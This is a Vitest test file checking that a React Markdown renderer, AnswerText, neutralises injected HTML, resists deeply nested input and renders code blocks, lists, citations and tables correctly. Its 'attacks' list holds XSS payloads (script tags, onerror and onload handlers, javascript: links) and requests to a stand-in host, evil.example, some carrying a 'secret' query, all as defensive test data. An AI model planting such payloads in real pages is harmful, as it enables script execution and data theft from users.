// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, test } from 'vitest'
import { AnswerText } from './answer-text.tsx'

afterEach(cleanup)

const inertTags = [
  'BLOCKQUOTE',
  'BUTTON',
  'CODE',
  'DIV',
  'LI',
  'OL',
  'P',
  'PATH',
  'PRE',
  'SECTION',
  'SPAN',
  'SUP',
  'SVG',
  'UL',
]
const inertAttributes = ['aria-hidden', 'aria-label', 'aria-live', 'class', 'start', 'tabindex', 'type']

/** Every element and attribute that came out but those that the renderer itself may make; drawings are its own. */
function findForeign(container: HTMLElement): string[] {
  return [...container.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toUpperCase()
    if (!inertTags.includes(tag)) return [tag]
    if (tag === 'SVG' || tag === 'PATH') return []
    return element.getAttributeNames().filter((name) => !inertAttributes.includes(name))
  })
}

const attacks = {
  script: '<script>globalThis.hacked = true</script>',
  'script in code': '```html\n<script>globalThis.hacked = true</script>\n```',
  'event handler': '<img src=x onerror="globalThis.hacked = true">',
  'svg handler': '<svg/onload=globalThis.hacked=true>',
  iframe: '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  form: '<form action="https://evil.example"><input name=q><button formaction="javascript:hacked()">go</button></form>',
  style: '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
  'javascript link': '[click](javascript:globalThis.hacked=true) <a href="javascript:hacked()">x</a>',
  'plain link': 'see https://evil.example/?q=secret and [docs](https://evil.example)',
  'markdown image': '![x](https://evil.example/pixel.png?secret) ![r][1]\n\n[1]: https://evil.example/a.png',
  'html in a list': '- <b onclick="hacked()">one</b>\n- `<img src=x>`',
  'html in inline code': 'run `<script>hacked()</script>` now',
  'broken tags': '<<script>script>hacked()<</script>/script> <img src=x:x onerror\n=hacked()//',
  entities: '&lt;script&gt;hacked()&lt;/script&gt; &#x3C;img&#x3E;',
}

describe('AnswerText shows attacks as text', () => {
  test.each(Object.entries(attacks))('%s', (_name, text) => {
    const { container } = render(<AnswerText text={text} />)
    expect(findForeign(container)).toEqual([])
    expect('hacked' in globalThis).toBe(false)
  })

  test.each(['<script>alert(1)</script>', 'a ![x](https://evil.example/p.png) b', '&lt;b&gt;'])(
    '%s stands there letter for letter',
    (text) => {
      expect(render(<AnswerText text={text} />).container.textContent).toBe(text)
    },
  )

  test('a giant table is one paragraph and not a hundred thousand cells', () => {
    const text = `${'| a | b | c |\n'.repeat(20_000)}`
    const { container } = render(<AnswerText text={text} />)
    expect(container.querySelectorAll('*').length).toBeLessThan(10)
    expect(container.textContent).toContain('| a | b | c |')
  })

  test.each([
    ['quotes', '> '.repeat(20_000)],
    ['list indents', `${'  '.repeat(20_000)}- x`],
    ['list markers', `${'- '.repeat(20_000)}x`],
    ['backticks', '`'.repeat(40_001)],
    ['uneven backticks', '` `` '.repeat(1_000)],
    ['fences', '```\n'.repeat(201)],
    ['brackets', '['.repeat(40_000)],
    ['open tags', '<div>'.repeat(20_000)],
  ])('deep nesting of %s neither nests nor takes long', (_name, text) => {
    const started = performance.now()
    const { container } = render(<AnswerText text={text} marker={() => null} />)
    expect(findForeign(container)).toEqual([])
    expect(depthOf(container)).toBeLessThan(8)
    expect(performance.now() - started).toBeLessThan(4_000)
  })
})

function depthOf(element: Element): number {
  return 1 + Math.max(0, ...[...element.children].map(depthOf))
}

describe('AnswerText renders what answers are written in', () => {
  test('code blocks, also one that is still being written', () => {
    const { container } = render(<AnswerText text={'Run:\n```sql\nSELECT 1;\n\nSELECT 2;'} />)
    expect(container.querySelector('pre > code')?.textContent).toBe('SELECT 1;\n\nSELECT 2;')
    expect(container.querySelector('button')?.textContent).toBe('Copy')
  })

  test('a code block whose citations stand behind its closing fence ends there', () => {
    const { container } = render(<AnswerText text={'```\nSELECT 1;\n``` [1][2]\nThen wait.'} />)
    expect(container.querySelector('pre')?.textContent).toBe('SELECT 1;')
    expect(container.querySelector('p')?.textContent).toBe('Then wait.')
  })

  test('lists, numbered ones with their own numbers, and inline code', () => {
    const { container } = render(<AnswerText text={'3. set `fsync`\n4. reload\n\n- a\n* b'} />)
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3')
    expect([...container.querySelectorAll('ol > li')].map((item) => item.textContent)).toEqual([
      'set fsync',
      'reload',
    ])
    expect(container.querySelector('ol code')?.textContent).toBe('fsync')
    expect(container.querySelectorAll('ul > li')).toHaveLength(2)
  })

  test('markers are replaced in prose and left alone in code', () => {
    const { container } = render(
      <AnswerText
        text={'Lag grows [2]. It stops [3, 2]. See `a[2]` and [9].'}
        marker={(n) => (n < 9 ? <sup>{n}</sup> : undefined)}
      />,
    )
    expect(container.querySelectorAll('sup')).toHaveLength(3)
    expect(container.textContent).toBe('Lag grows2. It stops32. See a[2] and [9].')
  })

  test('headings, quotes and stress; a star beside a space is a star', () => {
    const text = '## Steps\n\n> Take **care** of *this*\n> always\n\nSELECT * FROM a WHERE b * c > 1 and *x y'
    const { container } = render(<AnswerText text={text} />)
    expect(container.querySelector('p')?.textContent).toBe('Steps')
    expect(container.querySelector('blockquote')?.textContent).toBe('Take care of this\nalways')
    expect(container.querySelector('strong')?.textContent).toBe('care')
    expect(container.querySelectorAll('em')).toHaveLength(1)
    expect(container.textContent).toContain('SELECT * FROM a WHERE b * c > 1 and *x y')
  })

  test('a small table, whose rows have the cells of its head and no more', () => {
    const text = 'So:\n| mode | lock |\n|:--|--:|\n| a | `b` | c |\n| d |\nThen.'
    const { container } = render(<AnswerText text={text} />)
    const rows = [...container.querySelectorAll('tr')].map((row) =>
      [...row.children].map((cell) => cell.textContent),
    )
    expect(rows).toEqual([
      ['mode', 'lock'],
      ['a', 'b'],
      ['d', ''],
    ])
    expect([...container.querySelectorAll('p')].map((each) => each.textContent)).toEqual(['So:', 'Then.'])
  })

  test.each([
    ['too many rows', `| a | b |\n| - | - |\n${'| x | y |\n'.repeat(61)}`],
    ['too many columns', `${'| a '.repeat(13)}|\n${'| - '.repeat(13)}|\n${'| x '.repeat(13)}|`],
    ['a rule of another width', '| a | b |\n| - |\n| x | y |'],
  ])('a table with %s is text', (_name, text) => {
    const { container } = render(<AnswerText text={text} />)
    expect(container.querySelector('table')).toBeNull()
    expect(container.textContent).toContain('| a')
  })
})
